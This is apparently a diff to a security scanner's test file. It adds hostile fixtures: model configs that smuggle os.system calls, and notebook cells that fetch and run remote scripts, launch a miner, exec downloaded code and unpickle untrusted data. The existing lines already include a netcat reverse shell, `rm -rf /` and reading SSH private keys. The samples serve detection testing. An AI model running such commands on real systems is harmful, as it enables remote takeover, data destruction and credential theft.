@@ -23,6 +23,8 @@ HOSTILE_CONFIGS = {
     "modules.json in the library of another": [{"idx": 0, "name": "0", "path": "", "type": "subprocess.Popen"}],
     "adapter": {"auto_mapping": {"base_model_class": "system", "parent_library": "os"}},
     "shards": {"metadata": {}, "weight_map": {"a": "../../x.safetensors"}},
+    "expression": {"imports": ["$import glob"], "x": "$__import__('os').system('id')"},
+    "class path": {"model": {"class_path": "os.system", "init_args": {}}},
     "padded": {"x": " " * 9000, "auto_map": {"AutoModel": "e/r--m.M"}},
 }
 ORDINARY_CONFIGS = (
@@ -139,6 +141,10 @@ def notebook(source: str = "", *, output: dict[str, Any] | None = None, kind: st
         notebook("!nc -e /bin/sh h 9"),
         notebook("!echo aWQ= | base64 -d | sh"),
         notebook("!rm -rf /"),
+        notebook("!wget http://h/x.sh && bash x.sh"),
+        notebook("!chmod +x miner; ./miner"),
+        notebook("exec(requests.get(u).text)"),
+        notebook("import pickle\npickle.loads(base64.b64decode(x))"),
         notebook("!cat ~/.ssh/id_rsa"),
         notebook("import base64\nexec(base64.b64decode('aWQ='))"),
         notebook("exec(zlib.decompress(x))"),
